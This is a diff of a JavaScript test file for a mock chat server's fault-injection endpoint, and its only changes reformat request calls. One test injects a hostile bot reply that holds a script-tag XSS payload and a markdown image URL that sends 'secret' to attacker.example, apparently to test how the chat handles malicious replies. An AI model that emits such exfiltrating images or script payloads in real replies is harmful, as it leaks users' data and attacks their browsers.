@@ -12,7 +12,11 @@ afterAll(stopAllServers)
 
 it('answers the given text once, over HTTP, then normal replies again', async () => {
   const text = '<script>alert(1)</script>\n![](https://attacker.example/?q=secret)'
-  const set = await request(server, '/__mock/faults', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ rules: [{ fault: 'reply', text, times: 1 }] }) })
+  const set = await request(server, '/__mock/faults', {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify({ rules: [{ fault: 'reply', text, times: 1 }] }),
+  })
   expect(set.status).toBe(200)
   const visitor = newVisitor('reply')
   const hostile = await sendOk(server, { visitor_id: visitor, message: 'When are you open?' })
@@ -23,6 +27,10 @@ it('answers the given text once, over HTTP, then normal replies again', async ()
 })
 
 it('refuses a reply rule without text', async () => {
-  const res = await request(server, '/__mock/faults', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ rules: [{ fault: 'reply' }] }) })
+  const res = await request(server, '/__mock/faults', {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify({ rules: [{ fault: 'reply' }] }),
+  })
   expectError(res, 400, 'missing_field', 'text')
 })
